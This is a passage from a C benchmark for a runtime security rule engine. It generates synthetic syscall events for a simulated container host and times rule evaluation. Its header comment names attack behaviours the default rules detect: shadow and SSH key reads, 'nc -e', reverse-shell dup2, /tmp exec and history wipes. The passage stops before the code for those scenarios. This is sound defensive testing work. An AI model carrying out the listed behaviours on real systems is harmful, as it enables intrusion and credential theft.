/* vm_mix.c — whole-ruleset benchmark: ns per event for the state engine and the rule VM over a
 * synthetic but realistic event stream (issue 3, benchmarks/vm).
 *
 * Setup (untimed): the default ruleset (embedded; --rules N replicates its rules N times under
 * new names) or a bundle file (--bundle) is loaded; a fake host root (temp dir: etc/passwd,
 * etc/group, the containers' /proc/<pid>/root/etc/passwd) and a container metadata file are
 * written; the state engine is seeded with a process tree:
 *   systemd(1) ─┬─ systemd-journald, systemd-logind, node_exporter, cron
 *               ├─ sshd ─ sshd-session(root) ─ sshd-session(alice) ─ bash (tty pts/0)
 *               ├─ containerd ─ containerd-shim ─ nginx master (docker container, vpid 1)
 *               │                                  └─ 4 nginx workers (www-data)
 *               └─ containerd-shim ─ gunicorn master (kubernetes pod, cri-containerd cgroup)
 *                                     └─ 4 gunicorn workers (uid 1000)
 * with their fds (listening sockets, logs, ttys). The event stream is generated once with a
 * fixed seed, encoded in the scap layout (26-byte header, current *_X codes, fc_evt_encode),
 * kept in memory, and decoded chunk by chunk outside the timed region — exactly what the
 * merger hands falcod. Only syscalls the probe selects for the default ruleset appear (no
 * read/write). Scenarios and their weights (per 1000 scenario draws, `scenarios[]`):
 *   nginx request (accept4, static file openat/close or proxy connect, close)       330
 *   gunicorn request (accept4, templates/.pyc opens, DB/DNS connects, close)        220
 *   monitoring reads (node_exporter /proc,/sys; journald /proc/<pid>/...)           270
 *   containerd housekeeping (cgroup files, eventfd2, fcntl dup, pipe2)              110
 *   interactive command from bash (pipe2, clone, dup2, execve of ls/cat/grep/git/
 *     ps/vim/less/curl/python3/ssh/sudo/make..., ld.so + libs + tool files, exit)    45
 *   gunicorn worker thread spawn/exit, worker respawn (clone in a pid namespace)     10
 *   cron job (sh → run-parts → logrotate: renames, unlinks, creates, chmod)          4
 *   sshd login attempt (accept4, fork, passwd/shadow as sshd-session, setuid/gid)     6
 *   suspicious activity that default rules flag (shadow read by cat, ssh key read,
 *     shell under gunicorn, /tmp exec, nc -e, reverse-shell dup2, docker exec -it,
 *     write below /etc and /root, history wipe)                                       5
 * which gives (default seed, 1M events; every run prints the exact histogram): close 43.8%,
 * openat 28.9%, accept4 11.0%, clone 3.9%, connect 3.2%, socket 3.2%, procexit 1.9%,
 * execve 1.7%, pipe2 0.4%, unlinkat 0.36%, renameat2 0.29%, dup2 0.26%, eventfd2 0.26%,
 * setgid 0.22%, setuid 0.19%, fcntl 0.15%, fchmodat, setsid, mkdirat, setresuid < 0.1% each;
 * 0.17% of the events match a rule (1741 events, 1943 matches in ALL mode).
 *
 * Figures (ns per event, min and median over --reps repetitions, each on a fresh state):
 *   state       fc_state_event + fc_state_event_done
 *   state+first state + fc_vm_run in FIRST mode       state+all   the same in ALL mode
 *   vm-first / vm-all   fc_vm_run alone (extractor calls included, state update excluded):
 *               each call timed with the TSC (clock_gettime elsewhere), timer overhead
 *               calibrated and subtracted, samples over 250 us (preemption) dropped
 * Timing uses the thread's CPU clock per chunk of 2048 events (the machine is shared: time
 * spent descheduled is not counted). Output: one JSON line per figure, in the form
 * benchmarks/README.md uses for the vm suite:
 *   {"suite":"vm","kind":"mix","name":FIGURE,"ns_per_event":{"min","median","max"},"events",
 *    "reps","rules","rule_copies","matches","matched_events","dropped_samples"}
 * (FIGURE: state, state+vm_first, state+vm_all, vm_first, vm_all), then a table: the figures,
 * the VM's counters per event, the event mix with the VM's cost per event type, and the
 * matches per rule.
 * Usage: vm_mix [--events N] [--reps N] [--rules N] [--bundle FILE] [--seed S] [--quiet]
 *               [--only FIGURE]   (one figure only: for profilers)
 *               [--vm-types openat,execve]  (profiling: the VM runs only on those types; the
 *               figures are then not timings of the mix)
 * (built with -DFC_BENCH=ON, cmake/bench.cmake) */
#include <errno.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "bundle.h"
#include "events.h"
#include "evt.h"
#include "rulesrc.h"
#include "state.h"
#include "vm.h"
#define EVV_PROG "vm_mix"
#include "../../tests/tools/evview.h"

#if defined(__x86_64__) || defined(__i386__)
#include <x86intrin.h>
#define HAVE_TSC 1
#endif

extern const char fc_default_rules[];
extern const size_t fc_default_rules_len;


/* ------------------------------------------------------------------ random numbers */

/* rnd64/rnd: tests/tools/evview.h */
static bool chance(double p)
{
	return (double)(rnd64() >> 11) * 0x1.0p-53 < p;
}

#define PICK(arr) (arr)[rnd(sizeof(arr) / sizeof((arr)[0]))]

/* ------------------------------------------------------------------ event stream */

struct stream {
	uint8_t *buf;
	size_t len, cap;
	uint64_t n;
	uint64_t per_type[FC_EVENT_MAX];
};

static struct stream S;
static uint64_t now_ts = 1717000000000000000ull; /* ns since the epoch */

/* One event being built (tests/tools/evview.h): parameters set by name into a view, then
 * encoded onto the stream. */
static struct evview E;

static void ev_begin(uint16_t type, int64_t tid)
{
	now_ts += 1000 + rnd(38000); /* ~50k events/s */
	evv_begin(&E, type, now_ts, tid);
}

static void p_raw(const char *name, const void *p, size_t n)
{
	evv_raw(&E, name, p, n);
}

static void p_int(const char *name, int64_t v)
{
	evv_int(&E, name, v);
}

static void p_str(const char *name, const char *s)
{
	evv_str(&E, name, s);
}

/* IPv4 a.b.c.d as 4 wire bytes */
static void ip4(uint8_t *d, uint32_t a, uint32_t b, uint32_t c, uint32_t e)
{
	d[0] = (uint8_t)a;
	d[1] = (uint8_t)b;
	d[2] = (uint8_t)c;
	d[3] = (uint8_t)e;
}

static void p_tuple4(const char *name, const uint8_t src[4], uint16_t sp, const uint8_t dst[4], uint16_t dp)
{
	evv_tuple4(&E, name, src, sp, dst, dp);
}

static void p_sockaddr4(const char *name, const uint8_t a[4], uint16_t port)
{
	evv_sockaddr4(&E, name, a, port);
}

static void ev_end(void)
{
	size_t n = fc_evt_encoded_len(&E.v);
	if (!n)
		die("cannot encode event %u", E.v.type);
	if (S.len + n > S.cap) {
		S.cap = S.cap ? S.cap * 2 : 1u << 24;
		S.buf = realloc(S.buf, S.cap);
		if (!S.buf)
			die("out of memory");
	}
	fc_evt_encode(&E.v, S.buf + S.len, S.cap - S.len);
	S.len += n;
	S.n++;
	S.per_type[E.v.type]++;
}

/* ------------------------------------------------------------------ the simulated host */

#define PPM_O_RDONLY 0x1u
#define PPM_O_WRONLY 0x2u
#define PPM_O_RDWR 0x3u
#define PPM_O_CREAT 0x4u
#define PPM_O_APPEND 0x8u
#define PPM_O_NONBLOCK 0x40u
#define PPM_O_TRUNC 0x100u
#define PPM_O_DIRECTORY 0x400u
#define PPM_O_LARGEFILE 0x800u
#define PPM_O_CLOEXEC 0x1000u
#define PPM_O_F_CREATED 0x4000u
#define AT_FDCWD_PPM (-100)
#define ENOENT_NEG (-2)
#define EACCES_NEG (-13)

#define CTR_NGINX_ID "3f4e9a1b2c5d6e7f80912a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f"
#define CTR_API_ID "a9b8c7d6e5f40312a9b8c7d6e5f40312a9b8c7d6e5f40312a9b8c7d6e5f40312"
#define CG_NGINX "/system.slice/docker-" CTR_NGINX_ID ".scope"
#define CG_API                                                                                     \
	"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod6f1c2d3e_4a5b_6c7d_8e9f_0a1b2c3d4e5f.slice/" \
	"cri-containerd-" CTR_API_ID ".scope"

struct proc {
	int64_t tid, pid, ptid, vtid, vpid;
	const char *comm, *exe, *exepath;
	const char *args;
	size_t alen;
	const char *cwd;
	uint32_t uid, gid, loginuid, tty;
	const char *cgroup; /* path, for the cgroups blob */
	uint64_t fds[2];    /* fds 0..127 the generator believes open */
};

static char cg_blob[3][1024];
static size_t cg_len[3];
static const char *cg_paths[3] = {"/user.slice/user-1000.slice/session-3.scope", CG_NGINX, CG_API};

static size_t cgroups_of(const struct proc *p, const char **out)
{
	for (int i = 0; i < 3; i++)
		if (p->cgroup && !strcmp(p->cgroup, cg_paths[i])) {
			*out = cg_blob[i];
			return cg_len[i];
		}
	static char b[1024];
	int n = snprintf(b, sizeof b, "cpuset=%s", p->cgroup ? p->cgroup : "/system.slice");
	size_t l = (size_t)n + 1;
	l += (size_t)snprintf(b + l, sizeof b - l, "cpu=%s", p->cgroup ? p->cgroup : "/system.slice") + 1;
	*out = b;
	return l;
}

static void make_cg_blobs(void)
{
	for (int i = 0; i < 3; i++) {
		size_t l = 0;
		const char *ss[] = {"cpuset", "cpu", "cpuacct", "memory", "pids"};
		for (size_t k = 0; k < 5; k++)
			l += (size_t)snprintf(cg_blob[i] + l, sizeof cg_blob[i] - l, "%s=%s", ss[k], cg_paths[i]) + 1;
		cg_len[i] = l;
	}
}

static const char ENV_ALICE[] = "SHELL=/bin/bash\0PWD=/home/alice/src/shop\0LOGNAME=alice\0"
				"XDG_SESSION_TYPE=tty\0HOME=/home/alice\0LANG=C.UTF-8\0"
				"SSH_CONNECTION=10.0.8.14 51514 10.0.1.5 22\0TERM=xterm-256color\0USER=alice\0"
				"SHLVL=1\0XDG_SESSION_ID=3\0XDG_RUNTIME_DIR=/run/user/1000\0"
				"SSH_CLIENT=10.0.8.14 51514 22\0PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/"
				"bin:/sbin:/bin\0SSH_TTY=/dev/pts/0\0_=/usr/bin/env\0";
static const char ENV_SYS[] = "LANG=C.UTF-8\0PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0"
			      "INVOCATION_ID=5d2a8f0c11e94c5aa3b7d6e2c4f1a9b0\0JOURNAL_STREAM=8:21345\0";
static const char ENV_CTR[] = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0"
			      "HOSTNAME=api-7d9f8b6c5-x2lqz\0PYTHONUNBUFFERED=1\0DATABASE_HOST=10.0.3.20\0"
			      "KUBERNETES_SERVICE_HOST=10.96.0.1\0KUBERNETES_SERVICE_PORT=443\0HOME=/app\0";

static struct proc P_systemd, P_journald, P_logind, P_nodeexp, P_cron, P_sshd, P_sess_root, P_sess_alice,
	P_bash, P_containerd, P_shim_nginx, P_nginx, P_nginx_w[4], P_shim_api, P_gunicorn, P_gunicorn_w[4];
static int64_t next_pid = 31000;
static int64_t next_vpid_api = 40;

static int fd_alloc(struct proc *p)
{
	for (int i = 0; i < 128; i++)
		if (!(p->fds[i / 64] >> (i % 64) & 1)) {
			p->fds[i / 64] |= 1ull << (i % 64);
			return i;
		}
	return 127;
}

static void fd_mark(struct proc *p, int fd)
{
	if (fd >= 0 && fd < 128)
		p->fds[fd / 64] |= 1ull << (fd % 64);
}

static void fd_free(struct proc *p, int fd)
{
	if (fd >= 0 && fd < 128)
		p->fds[fd / 64] &= ~(1ull << (fd % 64));
}

/* ------------------------------------------------------------------ syscall emitters */

/* openat(AT_FDCWD, path, flags) = fd (allocated) or an error; returns the fd or -1 */
static int e_openat(struct proc *p, const char *path, uint32_t flags, int64_t err)
{
	int fd = err ? -1 : fd_alloc(p);
	ev_begin(FC_PPME_SYSCALL_OPENAT_2_X, p->tid);
	p_int("fd", err ? err : fd);
	p_int("dirfd", AT_FDCWD_PPM);
	p_str("name", path);
	p_int("flags", flags);
	p_int("mode", flags & PPM_O_CREAT ? 0644 : 0);
	p_int("dev", 0x803);
	p_int("ino", err ? 0 : 100000 + rnd(900000));
	ev_end();
	return fd;
}

static void e_close(struct proc *p, int fd)
{
	if (fd < 0)
		return;
	ev_begin(FC_PPME_SYSCALL_CLOSE_X, p->tid);
	p_int("res", 0);
	p_int("fd", fd);
	ev_end();
	fd_free(p, fd);
}

static void e_open_close(struct proc *p, const char *path, uint32_t flags)
{
	e_close(p, e_openat(p, path, flags, 0));
}

static int e_socket(struct proc *p, uint32_t domain, uint32_t type, uint32_t proto)
{
	int fd = fd_alloc(p);
	ev_begin(FC_PPME_SOCKET_SOCKET_X, p->tid);
	p_int("fd", fd);
	p_int("domain", domain);
	p_int("type", type);
	p_int("proto", proto);
	p_int("flags", 0);
	ev_end();
	return fd;
}

static void e_connect(struct proc *p, int fd, const uint8_t src[4], const uint8_t dst[4], uint16_t port, int64_t res)
{
	ev_begin(FC_PPME_SOCKET_CONNECT_X, p->tid);
	p_int("res", res);
	p_tuple4("tuple", src, (uint16_t)(32768 + rnd(28000)), dst, port);
	p_int("fd", fd);
	p_sockaddr4("addr", dst, port);
	ev_end();
}

static int e_accept4(struct proc *p, const uint8_t cli[4], const uint8_t srv[4], uint16_t port)
{
	int fd = fd_alloc(p);
	ev_begin(FC_PPME_SOCKET_ACCEPT4_6_X, p->tid);
	p_int("fd", fd);
	p_tuple4("tuple", cli, (uint16_t)(32768 + rnd(28000)), srv, port);
	p_int("queuepct", 0);
	p_int("queuelen", 0);
	p_int("queuemax", 511);
	p_int("flags", 0x800); /* SOCK_NONBLOCK */
	ev_end();
	return fd;
}

static void e_dup2(struct proc *p, int oldfd, int newfd)
{
	ev_begin(FC_PPME_SYSCALL_DUP2_X, p->tid);
	p_int("res", newfd);
	p_int("oldfd", oldfd);
	p_int("newfd", newfd);
	ev_end();
	fd_mark(p, newfd);
}

static void e_pipe2(struct proc *p, int *r, int *w)
{
	*r = fd_alloc(p);
	*w = fd_alloc(p);
	ev_begin(FC_PPME_SYSCALL_PIPE2_X, p->tid);
	p_int("res", 0);
	p_int("fd1", *r);
	p_int("fd2", *w);
	p_int("ino", 400000 + rnd(100000));
	p_int("flags", PPM_O_CLOEXEC);
	ev_end();
}

static int e_eventfd2(struct proc *p)
{
	int fd = fd_alloc(p);
	ev_begin(FC_PPME_SYSCALL_EVENTFD2_X, p->tid);
	p_int("res", fd);
	p_int("flags", PPM_O_CLOEXEC | PPM_O_NONBLOCK);
	p_int("initval", 0);
	ev_end();
	return fd;
}

static int e_fcntl_dupfd(struct proc *p, int fd)
{
	int nfd = fd_alloc(p);
	ev_begin(FC_PPME_SYSCALL_FCNTL_X, p->tid);
	p_int("res", nfd);
	p_int("fd", fd);
	p_int("cmd", 26); /* F_DUPFD_CLOEXEC */
	ev_end();
	return nfd;
}

static void e_setid(struct proc *p, uint16_t type, const char *pname, uint32_t id)
{
	ev_begin(type, p->tid);
	p_int("res", 0);
	p_int(pname, id);
	ev_end();
}

static void e_setresuid(struct proc *p, uint32_t uid)
{
	ev_begin(FC_PPME_SYSCALL_SETRESUID_X, p->tid);
	p_int("res", 0);
	p_int("ruid", uid);
	p_int("euid", uid);
	p_int("suid", uid);
	ev_end();
	p->uid = uid;
}

static void e_unlinkat(struct proc *p, const char *path, int64_t res)
{
	ev_begin(FC_PPME_SYSCALL_UNLINKAT_2_X, p->tid);
	p_int("res", res);
	p_int("dirfd", AT_FDCWD_PPM);
	p_str("name", path);
	p_int("flags", 0);
	ev_end();
}

static void e_renameat2(struct proc *p, const char *from, const char *to)
{
	ev_begin(FC_PPME_SYSCALL_RENAMEAT2_X, p->tid);
	p_int("res", 0);
	p_int("olddirfd", AT_FDCWD_PPM);
	p_str("oldpath", from);
	p_int("newdirfd", AT_FDCWD_PPM);
	p_str("newpath", to);
	p_int("flags", 0);
	ev_end();
}

static void e_mkdirat(struct proc *p, const char *path, int64_t res)
{
	ev_begin(FC_PPME_SYSCALL_MKDIRAT_X, p->tid);
	p_int("res", res);
	p_int("dirfd", AT_FDCWD_PPM);
	p_str("path", path);
	p_int("mode", 0755);
	ev_end();
}

static void e_fchmodat(struct proc *p, const char *path, uint32_t mode)
{
	ev_begin(FC_PPME_SYSCALL_FCHMODAT_X, p->tid);
	p_int("res", 0);
	p_int("dirfd", AT_FDCWD_PPM);
	p_str("filename", path);
	p_int("mode", mode);
	ev_end();
}

static void e_procexit(struct proc *p)
{
	ev_begin(FC_PPME_PROCEXIT_1_E, p->tid);
	p_int("status", 0);
	p_int("ret", 0);
	p_int("sig", 0);
	p_int("core", 0);
	p_int("reaper_tid", 0);
	ev_end();
}

static void clone_params(const struct proc *who, int64_t res, const struct proc *c, uint32_t flags)
{
	const char *cg;
	size_t cgl = cgroups_of(who, &cg);
	p_int("res", res);
	p_str("exe", who->exe);
	p_raw("args", who->args, who->alen);
	p_int("tid", c->tid);
	p_int("pid", c->pid);
	p_int("ptid", c->ptid);
	p_str("cwd", "");
	p_int("fdlimit", 1024);
	p_int("pgft_maj", 0);
	p_int("pgft_min", 120 + rnd(300));
	p_int("vm_size", 9000 + rnd(2000));
	p_int("vm_rss", 4000 + rnd(1000));
	p_int("vm_swap", 0);
	p_str("comm", who->comm);
	p_raw("cgroups", cg, cgl);
	p_int("flags", flags);
	p_int("uid", who->uid);
	p_int("gid", who->gid);
	p_int("vtid", c->vtid);
	p_int("vpid", c->vpid);
	p_int("pidns_init_start_ts", 0);
}

/* fork/clone of PARENT: the caller's exit (res = child tid as the caller sees it) then the
 * child's (res 0). THREAD: CLONE_THREAD|CLONE_VM|... */
static struct proc e_clone(struct proc *parent, bool thread)
{
	struct proc c = *parent;
	c.tid = next_pid++;
	if (thread) {
		c.pid = parent->pid;
		c.ptid = parent->ptid;
		c.vtid = parent->vtid == parent->tid ? c.tid : parent->vtid + 1000 + rnd(1000);
	} else {
		c.pid = c.tid;
		c.ptid = parent->tid;
		c.vtid = parent->vtid == parent->tid ? c.tid : next_vpid_api++;
		c.vpid = c.vtid;
	}
	/* PPM clone flags: a thread is FILES|FS|SIGHAND|SYSVSEM|THREAD|VM|PARENT_SETTID|
	 * CHILD_CLEARTID|SETTLS; fork is CHILD_SETTID|CHILD_CLEARTID; CHILD_IN_PIDNS in a container */
	uint32_t flags = thread ? 0x280ba03u : 0x1800000u;
	if (parent->vtid != parent->tid)
		flags |= 0x20000000u;
	ev_begin(FC_PPME_SYSCALL_CLONE_20_X, parent->tid);
	clone_params(parent, c.vtid == c.tid ? c.tid : c.vtid, &c, flags);
	ev_end();
	ev_begin(FC_PPME_SYSCALL_CLONE_20_X, c.tid);
	clone_params(parent, 0, &c, flags);
	ev_end();
	return c;
}

static void e_execve(struct proc *p, const char *argv0, const char *path, const char *comm, const char *args,
		     size_t alen, const char *env, size_t envlen, uint32_t exeflags)
{
	const char *cg;
	size_t cgl = cgroups_of(p, &cg);
	ev_begin(FC_PPME_SYSCALL_EXECVE_19_X, p->tid);
	p_int("res", 0);
	p_str("exe", argv0);
	p_raw("args", args, alen);
	p_int("tid", p->tid);
	p_int("pid", p->pid);
	p_int("ptid", p->ptid);
	p_str("cwd", "");
	p_int("fdlimit", 1024);
	p_int("pgft_maj", 0);
	p_int("pgft_min", 60 + rnd(100));
	p_int("vm_size", 2400 + rnd(4000));
	p_int("vm_rss", 900 + rnd(2000));
	p_int("vm_swap", 0);
	p_str("comm", comm);
	p_raw("cgroups", cg, cgl);
	p_raw("env", env, envlen);
	p_int("tty", p->tty);
	p_int("vpgid", p->vpid);
	p_int("loginuid", p->loginuid);
	p_int("flags", exeflags);
	p_int("cap_inheritable", 0);
	p_int("cap_permitted", p->uid == 0 ? 0x1ffffffffffull : 0);
	p_int("cap_effective", p->uid == 0 ? 0x1ffffffffffull : 0);
	p_int("exe_ino", 1000 + rnd(100000));
	p_int("exe_ino_ctime", 1690000000000000000ll);
	p_int("exe_ino_mtime", 1690000000000000000ll);
	p_int("uid", p->uid);
	p_str("trusted_exepath", path);
	p_int("pgid", p->pid);
	p_int("gid", p->gid);
	p_str("filename", path);
	ev_end();
	p->comm = comm;
	p->exe = argv0;
	p->exepath = path;
	p->args = args;
	p->alen = alen;
	p->fds[0] &= 7; /* close-on-exec fds gone; stdio stays */
	p->fds[1] = 0;
}

/* ------------------------------------------------------------------ scenarios */

static const uint8_t IP_NGINX[4] = {172, 17, 0, 2}, IP_API[4] = {10, 244, 1, 17}, IP_HOST[4] = {10, 0, 1, 5},
		     IP_PG[4] = {10, 0, 3, 20}, IP_REDIS[4] = {10, 0, 3, 21}, IP_DNS[4] = {10, 96, 0, 10};

static void client_ip(uint8_t d[4])
{
	if (chance(0.7))
		ip4(d, 10, 0, 8 + rnd(4), 1 + rnd(250));
	else
		ip4(d, 23 + rnd(180), rnd(256), rnd(256), 1 + rnd(250));
}

static void s_nginx_request(void)
{
	struct proc *w = &P_nginx_w[rnd(4)];
	uint8_t cli[4];
	client_ip(cli);
	int c = e_accept4(w, cli, IP_NGINX, chance(0.8) ? 443 : 80);
	static const char *files[] = {
		"/usr/share/nginx/html/index.html", "/usr/share/nginx/html/static/app.3f2a1c.js",
		"/usr/share/nginx/html/static/main.9b1e44.css", "/usr/share/nginx/html/img/logo.svg",
		"/usr/share/nginx/html/static/vendor.77ac01.js", "/usr/share/nginx/html/robots.txt",
	};
	uint32_t k = rnd(100);
	if (k < 60) {
		e_open_close(w, PICK(files), PPM_O_RDONLY | PPM_O_NONBLOCK | PPM_O_LARGEFILE | PPM_O_CLOEXEC);
	} else if (k < 70) {
		e_openat(w, chance(0.5) ? "/usr/share/nginx/html/favicon.ico" : "/usr/share/nginx/html/wp-login.php",
			 PPM_O_RDONLY | PPM_O_NONBLOCK | PPM_O_LARGEFILE | PPM_O_CLOEXEC, ENOENT_NEG);
	} else {
		int u = e_socket(w, 2, 1, 6);
		e_connect(w, u, IP_NGINX, IP_API, 8000, -115 /* EINPROGRESS */);
		e_close(w, u);
	}
	e_close(w, c);
}

static void s_api_request(void)
{
	struct proc *w = &P_gunicorn_w[rnd(4)];
	int c = e_accept4(w, IP_NGINX, IP_API, 8000);
	uint32_t k = rnd(100);
	static const char *tmpl[] = {"/app/templates/base.html", "/app/templates/cart.html",
				     "/app/templates/product.html", "/app/static/i18n/en.json",
				     "/app/shop/__pycache__/views.cpython-311.pyc",
				     "/usr/local/lib/python3.11/site-packages/jinja2/__pycache__/loaders.cpython-311.pyc"};
	if (k < 40) {
		e_open_close(w, PICK(tmpl), PPM_O_RDONLY | PPM_O_CLOEXEC);
		if (chance(0.3))
			e_open_close(w, PICK(tmpl), PPM_O_RDONLY | PPM_O_CLOEXEC);
	} else if (k < 55) {
		int s = e_socket(w, 2, 1, 6);
		e_connect(w, s, IP_API, chance(0.7) ? IP_PG : IP_REDIS, chance(0.7) ? 5432 : 6379, 0);
		e_close(w, s);
	} else if (k < 65) {
		e_open_close(w, "/etc/hosts", PPM_O_RDONLY | PPM_O_CLOEXEC);
		e_open_close(w, "/etc/resolv.conf", PPM_O_RDONLY | PPM_O_CLOEXEC);
		int s = e_socket(w, 2, 2, 17);
		e_connect(w, s, IP_API, IP_DNS, 53, 0);
		e_close(w, s);
	} else if (k < 70) {
		int t = e_openat(w, "/tmp/tmpk2j9x_upload", PPM_O_RDWR | PPM_O_CREAT | PPM_O_CLOEXEC | PPM_O_F_CREATED, 0);
		e_close(w, t);
		e_unlinkat(w, "/tmp/tmpk2j9x_upload", 0);
	}
	e_close(w, c);
}

static void s_monitoring(void)
{
	char path[128];
	if (chance(0.6)) {
		static const char *files[] = {"/proc/stat", "/proc/meminfo", "/proc/loadavg", "/proc/vmstat",
					      "/proc/net/dev", "/proc/diskstats", "/proc/pressure/cpu",
					      "/sys/class/net/eth0/statistics/rx_bytes",
					      "/sys/class/net/eth0/statistics/tx_bytes",
					      "/sys/fs/cgroup/system.slice/memory.current",
					      "/sys/devices/system/cpu/cpu0/cpufreq/scaling_cur_freq",
					      "/proc/sys/fs/file-nr", "/proc/self/mountinfo"};
		e_open_close(&P_nodeexp, PICK(files), PPM_O_RDONLY | PPM_O_CLOEXEC);
	} else {
		static const char *what[] = {"comm", "cmdline", "status", "cgroup", "attr/current", "sessionid"};
		static const int64_t pids[] = {1, 700, 2001, 2101, 610, 31002, 1202};
		snprintf(path, sizeof path, "/proc/%" PRId64 "/%s", PICK(pids), PICK(what));
		e_openat(&P_journald, path, PPM_O_RDONLY | PPM_O_CLOEXEC, chance(0.05) ? ENOENT_NEG : 0);
		for (int fd = 20; fd < 128; fd++)
			if (P_journald.fds[fd / 64] >> (fd % 64) & 1) {
				e_close(&P_journald, fd);
				break;
			}
	}
}

static void s_containerd(void)
{
	char path[256];
	uint32_t k = rnd(100);
	struct proc *p = chance(0.5) ? &P_containerd : (chance(0.5) ? &P_shim_nginx : &P_shim_api);
	if (k < 60) {
		static const char *f[] = {"memory.stat", "cpu.stat", "io.stat", "pids.current", "memory.events"};
		snprintf(path, sizeof path, "/sys/fs/cgroup%s/%s", chance(0.5) ? CG_NGINX : CG_API, PICK(f));
		e_open_close(p, path, PPM_O_RDONLY | PPM_O_CLOEXEC);
	} else if (k < 75) {
		snprintf(path, sizeof path, "/run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/%s",
			 chance(0.5) ? CTR_NGINX_ID : CTR_API_ID, chance(0.5) ? "state.json" : "config.json");
		e_open_close(p, path, PPM_O_RDONLY | PPM_O_CLOEXEC);
	} else if (k < 85) {
		int e = e_eventfd2(p);
		e_close(p, e);
	} else if (k < 93) {
		int r, w;
		e_pipe2(p, &r, &w);
		e_close(p, w);
		e_close(p, r);
	} else {
		int f = e_openat(p, "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db", PPM_O_RDWR | PPM_O_CLOEXEC, 0);
		int d = e_fcntl_dupfd(p, f);
		e_close(p, d);
		e_close(p, f);
	}
}

/* ld.so and libraries of a freshly exec'd dynamic binary */
static void e_ldso(struct proc *c, int nlibs)
{
	static const char *libs[] = {"/lib/x86_64-linux-gnu/libselinux.so.1", "/lib/x86_64-linux-gnu/libpcre2-8.so.0",
				     "/lib/x86_64-linux-gnu/libtinfo.so.6", "/lib/x86_64-linux-gnu/libz.so.1",
				     "/lib/x86_64-linux-gnu/libcrypto.so.3", "/lib/x86_64-linux-gnu/libssl.so.3",
				     "/lib/x86_64-linux-gnu/libacl.so.1", "/lib/x86_64-linux-gnu/libcap.so.2"};
	e_open_close(c, "/etc/ld.so.cache", PPM_O_RDONLY | PPM_O_CLOEXEC);
	for (int i = 0; i < nlibs; i++)
		e_open_close(c, PICK(libs), PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_open_close(c, "/lib/x86_64-linux-gnu/libc.so.6", PPM_O_RDONLY | PPM_O_CLOEXEC);
	if (chance(0.5))
		e_open_close(c, "/usr/lib/locale/locale-archive", PPM_O_RDONLY | PPM_O_CLOEXEC);
}

struct tool {
	const char *name, *path;
	const char *args; /* space-separated, turned into a NUL-separated blob */
};

/* Runs one command as a child of PARENT: clone, stdio set-up, execve, ld.so, BODY's files, exit. */
static void run_cmd(struct proc *parent, const char *name, const char *path, const char *args, bool pipeline,
		    void (*body)(struct proc *c, const char *name))
{
	static char ab[8][1024];
	static int abk;
	char *a = ab[abk++ & 7];
	size_t al = evv_nul_list(args, ' ', a, 1024);
	int r = -1, w = -1;
	if (pipeline)
		e_pipe2(parent, &r, &w);
	struct proc c = e_clone(parent, false);
	if (pipeline) {
		e_dup2(&c, w, 1);
		e_close(&c, w);
		e_close(&c, r);
		e_close(parent, w);
	}
	e_execve(&c, name, path, name, a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
	e_ldso(&c, 1 + rnd(3));
	if (body)
		body(&c, name);
	e_procexit(&c);
	if (pipeline)
		e_close(parent, r);
}

static void b_files(struct proc *c, const char *name)
{
	static const char *src[] = {"/home/alice/src/shop/README.md", "/home/alice/src/shop/app.py",
				    "/home/alice/src/shop/shop/views.py", "/home/alice/src/shop/requirements.txt",
				    "/home/alice/src/shop/shop/models.py", "/home/alice/.bashrc",
				    "/var/log/nginx/access.log", "/etc/os-release", "/etc/nginx/nginx.conf"};
	int n = !strcmp(name, "grep") ? 2 + (int)rnd(6) : 1;
	for (int i = 0; i < n; i++)
		e_open_close(c, PICK(src), PPM_O_RDONLY | PPM_O_LARGEFILE | PPM_O_NONBLOCK);
}

static void b_ls(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/home/alice/src/shop", PPM_O_RDONLY | PPM_O_NONBLOCK | PPM_O_DIRECTORY | PPM_O_CLOEXEC);
}

static void b_git(struct proc *c, const char *name)
{
	(void)name;
	static const char *g[] = {"/home/alice/src/shop/.git/HEAD",   "/home/alice/src/shop/.git/config",
				  "/home/alice/src/shop/.git/index",  "/home/alice/src/shop/.git/packed-refs",
				  "/home/alice/.gitconfig",          "/home/alice/src/shop/.git/refs/heads/main",
				  "/home/alice/src/shop/.gitignore", "/home/alice/src/shop/.git/info/exclude"};
	int n = 4 + (int)rnd(6);
	for (int i = 0; i < n; i++)
		e_open_close(c, PICK(g), PPM_O_RDONLY | PPM_O_CLOEXEC);
	e_openat(c, "/home/alice/src/shop/.git/index.lock", PPM_O_RDWR | PPM_O_CREAT | PPM_O_CLOEXEC, -17);
}

static void b_ps(struct proc *c, const char *name)
{
	(void)name;
	char path[64];
	static const int64_t pids[] = {1, 450, 520, 610, 700, 800, 950, 1200, 1201, 1202, 2000, 2001, 2002, 2003, 2100, 2101};
	e_open_close(c, "/proc", PPM_O_RDONLY | PPM_O_NONBLOCK | PPM_O_DIRECTORY | PPM_O_CLOEXEC);
	for (size_t i = 0; i < sizeof pids / sizeof pids[0]; i++) {
		snprintf(path, sizeof path, "/proc/%" PRId64 "/stat", pids[i]);
		e_open_close(c, path, PPM_O_RDONLY);
		snprintf(path, sizeof path, "/proc/%" PRId64 "/cmdline", pids[i]);
		e_open_close(c, path, PPM_O_RDONLY);
	}
}

static void b_vim(struct proc *c, const char *name)
{
	(void)name;
	e_open_close(c, "/home/alice/.vimrc", PPM_O_RDONLY);
	e_open_close(c, "/usr/share/vim/vim90/syntax/python.vim", PPM_O_RDONLY);
	int s = e_openat(c, "/home/alice/src/shop/.app.py.swp", PPM_O_RDWR | PPM_O_CREAT | PPM_O_F_CREATED, 0);
	e_open_close(c, "/home/alice/src/shop/app.py", PPM_O_RDONLY);
	int f = e_openat(c, "/home/alice/src/shop/app.py", PPM_O_WRONLY | PPM_O_CREAT | PPM_O_TRUNC, 0);
